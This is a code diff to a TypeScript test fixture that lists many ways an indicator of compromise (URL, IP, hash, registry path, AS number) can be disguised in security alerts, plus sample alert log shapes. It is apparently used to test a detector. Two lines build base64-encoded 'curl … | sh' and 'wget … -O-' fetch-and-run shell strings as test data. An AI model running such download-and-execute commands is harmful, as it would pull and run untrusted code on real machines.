@@ -3,6 +3,10 @@ import type { JsonObject } from "../../src/model/json.ts";
 const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join("");
 const unicode = (text: string) => text.replace(/./gsu, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
 
+/** Of what is hex alone. */
+const separated = (text: string, gap: string) =>
+  /^[0-9a-f]{32,}$/.test(text) ? text.replace(/(..)(?=.)/g, `$1${gap}`) : text;
+
 /** Each way in which the spelling in an alert differs from the canonical one. */
 export const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
   none: (text) => text,
@@ -12,7 +16,13 @@ export const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
   "[dot]": (text) => text.replaceAll(".", "[dot]"),
   "(dot) with blanks": (text) => text.replaceAll(".", "( dot )"),
   "{.}": (text) => text.replace(".", "{.}"),
+  "blanks encoded in brackets": (text) => text.replaceAll(".", "[%20.%00]"),
+  "closing bracket encoded": (text) => text.replaceAll(".", "[.%5d"),
+  "closing bracket encoded behind a word": (text) => text.replaceAll(".", "(dot%29"),
+  "colons encoded in brackets": (text) => text.replaceAll(":", "[%3a]"),
+  "closing bracket encoded behind colons": (text) => text.replaceAll(":", "{:%7D"),
   hxxp: (text) => text.replace(/^http/i, "hxxp"),
+  "fxp inside": (text) => text.replace(/(?<=.)ftp(?=:)/, "fxp"),
   "[://]": (text) => text.replace("://", "[://]"),
   "[:]": (text) => text.replace(":", "[:]"),
   "[@]": (text) => text.replace("@", "[@]"),
@@ -25,6 +35,8 @@ export const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
   "full-width letters": (text) => text.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
   "soft hyphen": (text) => `${text.slice(0, 2)}\u00ad${text.slice(2)}`,
   "zero-width": (text) => `${text.slice(0, 1)}\u200b${text.slice(1)}`,
+  "byte order mark": (text) => `${text.slice(0, 3)}\ufeff${text.slice(3)}`,
+  "letters that fold": (text) => text.replace(/s(?=erver)/, "\u017f").replace(/^AS/i, "\u24b6s"),
   "escaped twice": unicode,
   "escaped dot": (text) => text.replaceAll(".", "\\u002e"),
   "\\x escapes": (text) => text.replace(".", "\\x2e"),
@@ -42,6 +54,9 @@ export const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
       : text;
   },
   "IPv6 in full": (text) => text.replace("::", ":0:0:0:0:0:0:").replace(/^((?:[^:]*:){7}[^:]*):.*$/, "$1"),
+  "before a full address": (text) => `${text} 2001:db8:1:2:3:4:5:6`,
+  "before ::": (text) => `${text} std::string`,
+  "glued range": (text) => `${text}_-10.0.0.9`,
   range: (text) => `${text}-10.0.0.9`,
   "second of a range": (text) => `10.0.0.1-${text}`,
   glued: (text) => `-${text}`,
@@ -62,6 +77,8 @@ export const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
   "in base64 of a shell": (text) =>
     `echo ${Buffer.from(`curl ${text} | sh # padding`).toString("base64")} | base64 -d | sh`,
   colons: (text) => text.replace(/(..)(?=.)/g, "$1:"),
+  "wide blanks": (text) => separated(text, "\u2009"),
+  "tabs, two each": (text) => separated(text, "\t\t"),
   blanks: (text) => text.replace(/(..)(?=.)/g, "$1 "),
   "hive in full": (text) =>
     text.replace(/^hklm/, "HKEY_LOCAL_MACHINE").replace(/^hkcu/, "HKEY_USERS\\S-1-5-21-1-2-3-1001"),
@@ -70,7 +87,10 @@ export const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
       .replace("%temp%", "C:/Users/joe/AppData/Local/Temp")
       .replace("%appdata%", "C:\\Documents and Settings\\joe\\Application Data")
       .replace("%windir%", "\\Device\\HarddiskVolume3\\Windows"),
+  "variable of a folder": (text) => text.replace("%windir%/system32", "%SYSTEM%"),
   "AS and zeros": (text) => `AS000${text}`,
+  "ASN and zeros": (text) => text.replace(/^\d+$/, "ASN-00000$&"),
+  "AS and hyphens": (text) => text.replace(/^\d+$/, "AS--$&"),
   hashes: (text) => `SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709,MD5=${text},IMPHASH=${text}`,
   "en dash": (text) => `a \u2013e ${Buffer.from(`wget ${text} -O- && true`).toString("base64")}`,
 };
@@ -88,6 +108,16 @@ export const PLACES: readonly ((text: string) => JsonObject)[] = [
         eventdata: { targetObject: text, targetFilename: text, destinationIp: text, queryResults: `::ffff:${text};` },
       },
     },
+  }),
+  // Several addresses on a line, of either spelling.
+  (text) => ({
+    full_log: `sshd[9]: Failed password for root from ${text} port 22 to fe80::1`,
+    data: { src_ip: text, src_port: "443", dest_ip: "2001:db8::5", user_agent: text, sha1: text, mutex: text },
+    syscheck: { path: text, sha256_after: text, md5_after: text },
+  }),
+  (text) => ({
+    data: { win: { eventdata: { targetObject: text, hashes: text, sourceIp: "::1", destinationIp: text } } },
+    full_log: `2001:db8:1:2:3:4:5:6 > ${text}: std::string`,
   }),
   (text) => ({ syscheck: { path: text, md5_after: text, sha256_after: text, sha1_after: text } }),
   (text) => ({ data: { srcip: text, dstip: text, url: text, srcuser: text, hostname: text } }),
